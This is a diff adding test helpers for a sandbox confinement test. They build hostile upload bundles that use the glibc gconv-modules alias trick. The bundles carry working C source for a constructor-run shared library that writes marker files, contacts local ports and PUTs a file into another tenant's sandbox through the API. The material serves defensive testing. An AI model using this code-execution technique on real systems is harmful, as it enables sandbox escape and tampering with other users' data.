@@ -221,3 +221,91 @@ def exec_final(client, rid, cmd, timeout=30):
         final["out_bytes"] = base64.b64decode(final["out"])
         final["err_bytes"] = base64.b64decode(final["err"])
     return final
+
+
+# ---- hostile bundles that try to run code (tests/contract/test_tools_confinement.py) -----------
+
+GCONV_DIR = "usr/lib/x86_64-linux-gnu/gconv"
+
+# glibc's iconv reads gconv-modules from this path when it first converts a charset; an alias
+# for UTF-8 sends every UTF-8 conversion to a module of the config's directory (the classic
+# gconv trick: glibc drops its own builtin UTF-8 module when an alias of that name exists).
+GCONV_MODULES = b"""alias UTF-8// PWN//
+alias ISO-10646/UTF8/ PWN//
+alias ANSI_X3.4-1968// PWN//
+module PWN// INTERNAL pwn 1
+module INTERNAL PWN// pwn 1
+"""
+
+# The module's constructor: every thing it manages to do leaves a trace the test checks.
+PWN_C = r"""
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+static void touch(const char *p)
+{
+        int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+
+        if (fd >= 0) {
+                (void)!write(fd, "ran", 3);
+                close(fd);
+        }
+}
+
+static void http(int port, const char *req)
+{
+        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
+        char buf[256];
+        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+        if (s < 0)
+                return;
+        a.sin_addr.s_addr = htonl(0x7f000001);
+        if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
+                (void)!write(s, req, strlen(req));
+                (void)!read(s, buf, sizeof(buf));
+        }
+        close(s);
+}
+
+__attribute__((constructor)) static void pwn(void)
+{
+        touch("/ctor-ran");
+        touch("ctor-ran-cwd");
+        touch(HOST_MARKER);
+        http(STORE_PORT, "GET /ctor-ran HTTP/1.0\r\n\r\n");
+        http(API_PORT, "PUT /sandboxes/" VICTIM "/file?path=pwned HTTP/1.0\r\n"
+                       "Content-Type: application/octet-stream\r\nContent-Length: 5\r\n\r\npwned");
+}
+
+int gconv_init(void *step) { return 1; }
+int gconv(void *a, void *b, void *c, void *d, void *e, int f) { return 1; }
+"""
+
+
+def build_pwn_module(tmpdir, host_marker, store_port, api_port, victim_rid):
+    """Compile the hostile gconv module; returns its bytes."""
+    src = os.path.join(str(tmpdir), "pwn.c")
+    out = os.path.join(str(tmpdir), "pwn.so")
+    with open(src, "w") as f:
+        f.write(PWN_C)
+    subprocess.run(["gcc", "-shared", "-fPIC", "-O1", "-o", out, src,
+                    '-DHOST_MARKER="%s"' % host_marker, "-DSTORE_PORT=%d" % store_port,
+                    "-DAPI_PORT=%d" % api_port, '-DVICTIM="%s"' % victim_rid],
+                   check=True, capture_output=True, timeout=60)
+    with open(out, "rb") as f:
+        return f.read()
+
+
+def make_pax_bundle(entries):
+    """A .tar.gz in POSIX pax format (non-ASCII names travel as UTF-8 in pax headers, which
+    libarchive converts with iconv). `entries`: list of (name, bytes, mode), in order."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tf:
+        for name, data, mode in entries:
+            _add(tf, name, data, mode)
+    return buf.getvalue()
